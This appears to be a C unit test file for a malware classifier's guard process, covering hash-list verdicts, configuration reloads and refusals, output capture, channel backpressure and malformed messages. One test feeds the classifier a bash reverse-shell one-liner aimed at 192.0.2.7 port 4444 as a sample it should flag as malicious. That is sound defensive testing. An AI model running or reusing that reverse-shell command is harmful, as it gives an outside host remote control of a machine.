/* The role in this process, with its descriptor 3, and a guard and a gate that this test plays. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <errno.h>
#include <fcntl.h>
#include <string.h>
#include <sys/socket.h>

#include <cmocka.h>

#include "classify/classify.h"
#include "guard_side.h"
#include "judge_model.h"

#define ONE_LIST                                                                                   \
	"version: 1\ncontent: {hash_lists: [{name: bad, path: /lists/bad, verdict: malicious}]}\n"
#define TWO_LISTS                                                                                  \
	"version: 1\ncontent: {hash_lists: [{name: good, path: /lists/good, verdict: trusted},"    \
	" {name: worse, path: /lists/worse}]}\n"
#define NO_LISTS "version: 1\n"

struct fixture {
	struct lw_loop *loop;
	struct lw_classify *classify;
	struct guard_side side;
	int result; /* of the loop's last round */
};

static void
pump(void *arg)
{
	struct fixture *f = arg;

	f->result = lw_loop_once(f->loop, 1);
}

static int
begin(void **state)
{
	struct fixture *f = calloc(1, sizeof(*f));

	*state = f;
	/* Descriptor 3 is taken from the beginning, so that no end of a channel comes to lie there.
	 */
	if (fcntl(LW_FD_GUARD, F_GETFD) < 0)
		assert_int_equal(dup2(STDERR_FILENO, LW_FD_GUARD), LW_FD_GUARD);
	guard_side_init(&f->side);
	f->side.pump = pump;
	f->side.arg = f;
	assert_int_equal(dup2(f->side.child_fd, LW_FD_GUARD), LW_FD_GUARD);
	lw_closep(&f->side.child_fd);
	assert_int_equal(lw_loop_new(&f->loop), 0);
	assert_int_equal(lw_classify_new(&f->classify, f->loop), 0);
	return 0;
}

static int
end(void **state)
{
	struct fixture *f = *state;

	lw_classify_free(f->classify);
	lw_loop_free(f->loop);
	guard_side_done(&f->side);
	free(f);
	return 0;
}

static void
send_list(struct fixture *f, uint64_t generation, uint32_t index, const char *member)
{
	_cleanup_close_ int fd = guard_side_list(member, strlen(member));

	guard_side_resource(&f->side, generation, index, fd);
}

static void
start_with_one_list(struct fixture *f)
{
	send_list(f, 1, 0, "evil");
	assert_int_equal(guard_side_config(&f->side, 1, ONE_LIST)->ok, 1);
	guard_side_peer(&f->side);
	guard_side_start(&f->side);
}

static void
a_request_is_answered(void **state)
{
	struct fixture *f = *state;
	const struct lw_assessment *a;

	start_with_one_list(f);
	a = guard_side_judge(&f->side, "evil", 4);
	assert_int_equal(a->verdict, LW_VERDICT_MALICIOUS);
	assert_string_equal(a->hash_list, "bad");
	assert_string_equal(a->reasons[0], "hash list: bad, of today");
	a = guard_side_judge(&f->side, "good", 4);
	assert_int_equal(a->verdict, LW_VERDICT_UNKNOWN);
	assert_int_equal(a->flags, LW_ASSESS_HASHED);
}

static void
the_capture_is_written_to_the_second_descriptor(void **state)
{
	struct lw_msg_assess request = {.flags = LW_ASSESS_WANT_CAPTURE, .capture_max = 7};
	_cleanup_close_ int fd = lw_memfd_with("content", "echo hello", 10);
	_cleanup_close_ int capture = lw_memfd("capture");
	struct fixture *f = *state;
	char got[16] = "";

	start_with_one_list(f);
	assert_int_equal(guard_side_ask(&f->side, 1, &request, fd, capture), 0);
	guard_side_wait(&f->side, 1);
	assert_int_equal(pread(capture, got, sizeof(got), 0), 7);
	assert_string_equal(got, "echo he");
	assert_int_equal(f->side.answer.assessment.captured_size, 7);
	/* Wanted, but there is nowhere to write it. */
	assert_int_equal(guard_side_ask(&f->side, 2, &request, fd, -1), 0);
	guard_side_wait(&f->side, 2);
	assert_int_equal(f->side.answer.assessment.captured_size, 0);
}

static void
a_reload_swaps_the_lists(void **state)
{
	struct fixture *f = *state;

	start_with_one_list(f);
	send_list(f, 2, 0, "fine");
	send_list(f, 2, 1, "worse");
	assert_int_equal(guard_side_config(&f->side, 2, TWO_LISTS)->ok, 1);
	assert_int_equal(guard_side_judge(&f->side, "evil", 4)->verdict, LW_VERDICT_UNKNOWN);
	assert_int_equal(guard_side_judge(&f->side, "fine", 4)->verdict, LW_VERDICT_TRUSTED);
	assert_int_equal(guard_side_judge(&f->side, "worse", 5)->verdict, LW_VERDICT_MALICIOUS);
	assert_int_equal(guard_side_config(&f->side, 3, NO_LISTS)->ok, 1);
	assert_int_equal(guard_side_judge(&f->side, "worse", 5)->verdict, LW_VERDICT_UNKNOWN);
}

/* Refused as a whole, with the reason; the old lists still judge. */
static void
expect_refusal(struct fixture *f, uint64_t generation, const char *yaml, const char *why)
{
	const struct lw_msg_ready *ready = guard_side_config(&f->side, generation, yaml);

	assert_int_equal(ready->ok, 0);
	if (!strstr(ready->detail, why))
		fail_msg("'%s' is not in '%s'", why, ready->detail);
	assert_int_equal(guard_side_judge(&f->side, "evil", 4)->verdict, LW_VERDICT_MALICIOUS);
}

static void
a_bad_configuration_is_refused_and_the_old_one_stays(void **state)
{
	_cleanup_close_ int text = lw_memfd_with("list", "just text", 9);
	struct fixture *f = *state;

	start_with_one_list(f);
	expect_refusal(f, 2, "version: 1\nnonsense: 1\n", "nonsense");
	send_list(f, 3, 0, "fine");
	expect_refusal(f, 3, TWO_LISTS, "hash list worse (/lists/worse): No such file");
	guard_side_resource(&f->side, 4, 0, text);
	expect_refusal(f, 4, ONE_LIST, "hash list bad (/lists/bad): not a hash list");
	/* Resources of a generation that is past count for nothing. */
	send_list(f, 4, 0, "fine");
	expect_refusal(f, 5, ONE_LIST, "No such file");
}

static void
the_model_is_taken_kept_and_dropped_with_its_configuration(void **state)
{
	static const char shell[] = "#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n";
	_cleanup_close_ int fd = judge_model_fd(), text = lw_memfd_with("model", "text", 4);
	struct fixture *f = *state;
	const struct lw_assessment *a;

	start_with_one_list(f);
	guard_side_model(&f->side, 2, fd);
	send_list(f, 2, 0, "evil");
	assert_int_equal(guard_side_config(&f->side, 2, ONE_LIST)->ok, 1);
	a = guard_side_judge(&f->side, shell, sizeof(shell) - 1);
	assert_string_not_equal(a->model, "");
	assert_int_equal(a->verdict, LW_VERDICT_MALICIOUS);
	assert_true(a->score > 0.9f && a->score <= 1);
	assert_int_equal(strncmp(a->reasons[0], "model ", 6), 0);
	send_list(f, 3, 0, "evil");
	guard_side_model(&f->side, 3, text);
	expect_refusal(f, 3, ONE_LIST, "content.model: the file is no model, or is damaged");
	assert_string_not_equal(guard_side_judge(&f->side, shell, sizeof(shell) - 1)->model, "");
	send_list(f, 4, 0, "evil");
	assert_int_equal(guard_side_config(&f->side, 4, ONE_LIST)->ok, 1);
	a = guard_side_judge(&f->side, shell, sizeof(shell) - 1);
	assert_string_equal(a->model, "");
	assert_non_null(strstr(a->reasons[0], "behaviour: "));
}

static void
a_new_gate_takes_the_place_of_the_old(void **state)
{
	struct fixture *f = *state;

	start_with_one_list(f);
	assert_int_equal(guard_side_judge(&f->side, "evil", 4)->verdict, LW_VERDICT_MALICIOUS);
	lw_chan_done(&f->side.gate);
	for (int i = 0; i < 3; i++)
		pump(f);
	assert_int_equal(f->result, 0);
	guard_side_peer(&f->side);
	assert_int_equal(guard_side_judge(&f->side, "evil", 4)->verdict, LW_VERDICT_MALICIOUS);
	guard_side_peer(&f->side); /* the old one is still open there */
	assert_int_equal(guard_side_judge(&f->side, "evil", 4)->verdict, LW_VERDICT_MALICIOUS);
}

/* A gate that asks and does not listen: every answer comes in the end, in order, and none twice. */
static void
answers_wait_for_room(void **state)
{
	_cleanup_close_ int fd = lw_memfd_with("content", "evil", 4);
	struct lw_msg_assess request = {0};
	struct fixture *f = *state;
	int asked = 0;

	start_with_one_list(f);
	pump(f);
	for (int rounds = 0; rounds < 3000; rounds++) {
		int r = guard_side_ask(&f->side, asked + 1, &request, fd, -1);

		asked += r == 0;
		assert_true(r == 0 || r == LW_CHAN_FULL);
		pump(f);
		assert_int_equal(f->result, 0);
		if (r == LW_CHAN_FULL)
			break;
	}
	assert_true(asked > 10 && asked < 3000);
	guard_side_wait(&f->side, asked);
	for (int i = 0; i < 5; i++)
		pump(f);
	lw_chan_dispatch(&f->side.gate, 16);
	assert_int_equal(f->side.answers, asked);
	assert_int_equal(f->side.answer_id, asked);
	assert_int_equal(guard_side_judge(&f->side, "evil", 4)->verdict, LW_VERDICT_MALICIOUS);
}

static void
a_malformed_frame_ends_the_role(void **state)
{
	struct fixture *f = *state;

	start_with_one_list(f);
	assert_int_equal(guard_side_judge(&f->side, "evil", 4)->verdict, LW_VERDICT_MALICIOUS);
	assert_int_equal(send(f->side.gate.fd, "x", 1, 0), 1);
	f->result = 0;
	for (int i = 0; i < 3 && f->result == 0; i++)
		pump(f);
	assert_int_equal(f->result, -EPROTO);
}

static void
a_wrong_peer_or_resource_ends_the_role(void **state)
{
	struct lw_msg_resource m = {.kind = LW_RESOURCE_HASH_LIST, .index = 4096};
	_cleanup_close_ int fd = lw_memfd("x");
	struct fixture *f = *state;

	assert_int_equal(lw_chan_send(&f->side.guard, LW_MSG_RESOURCE, 0, &m, &fd, 1), 0);
	pump(f);
	assert_int_equal(f->result, -EPROTO);
}

int
main(void)
{
#define TEST(f) cmocka_unit_test_setup_teardown(f, begin, end)
	const struct CMUnitTest tests[] = {
		TEST(a_request_is_answered),
		TEST(the_capture_is_written_to_the_second_descriptor),
		TEST(a_reload_swaps_the_lists),
		TEST(a_bad_configuration_is_refused_and_the_old_one_stays),
		TEST(the_model_is_taken_kept_and_dropped_with_its_configuration),
		TEST(a_new_gate_takes_the_place_of_the_old),
		TEST(answers_wait_for_room),
		TEST(a_malformed_frame_ends_the_role),
		TEST(a_wrong_peer_or_resource_ends_the_role),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
